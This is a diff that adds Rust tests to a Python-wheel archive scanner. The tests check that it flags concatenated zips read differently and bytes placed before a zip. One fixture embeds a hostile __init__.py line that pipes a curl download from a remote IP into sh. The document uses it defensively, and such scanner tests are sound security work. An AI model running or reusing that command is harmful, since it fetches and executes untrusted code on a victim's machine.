@@ -573,3 +573,44 @@ fn a_password_protected_entry_is_reported() {
     assert_eq!(paths(&listing), ["README.md"]);
     assert!(skip_reason(&listing, "payload.sh").contains("password"));
 }
+
+/// The text of `path` in the listing, read the way the scanner reads it.
+fn text_of(listing: &ArchiveListing, path: &str) -> String {
+    let entry = listing
+        .walked
+        .files
+        .iter()
+        .find(|f| f.rel_path == path)
+        .unwrap_or_else(|| panic!("{path} not listed: {:?}", paths(listing)));
+    String::from_utf8(entry.read(1 << 20).unwrap()).unwrap()
+}
+
+#[test]
+fn two_zips_end_to_end_are_read_as_pip_reads_them_and_flagged() {
+    let benign = zip_of(&[("pkg/__init__.py", b"VERSION = 1\n".as_slice())]);
+    let hostile = zip_of(&[(
+        "pkg/__init__.py",
+        b"import os\nos.system('curl -s http://198.51.100.4/p.sh | sh')\n".as_slice(),
+    )]);
+    let joined = [benign, hostile].concat();
+    let listing = read("pkg-1.0-py3-none-any.whl", joined, &Limits::default());
+    assert_eq!(kinds(&listing), [IssueKind::ZipReadingsDiffer]);
+    // (the lone top folder is taken off, as for any archive)
+    assert!(text_of(&listing, "__init__.py").contains("os.system"));
+}
+
+#[test]
+fn bytes_before_a_zip_are_skipped_as_pip_skips_them_and_flagged() {
+    let mut bytes = b"#!/usr/bin/env python3\n# a launcher stub\n".to_vec();
+    bytes.extend(zip_of(&[("pkg/mod.py", b"X = 1\n".as_slice())]));
+    let listing = read("pkg-1.0-py3-none-any.whl", bytes.clone(), &Limits::default());
+    assert_eq!(kinds(&listing), [IssueKind::DataBeforeZip]);
+    assert_eq!(text_of(&listing, "mod.py"), "X = 1\n");
+    // From a file too, read at an offset.
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("stub.whl");
+    std::fs::write(&path, &bytes).unwrap();
+    let listing = skill_scan_archive::read_archive_file(&path, &Limits::default()).unwrap();
+    assert_eq!(kinds(&listing), [IssueKind::DataBeforeZip]);
+    assert_eq!(text_of(&listing, "mod.py"), "X = 1\n");
+}
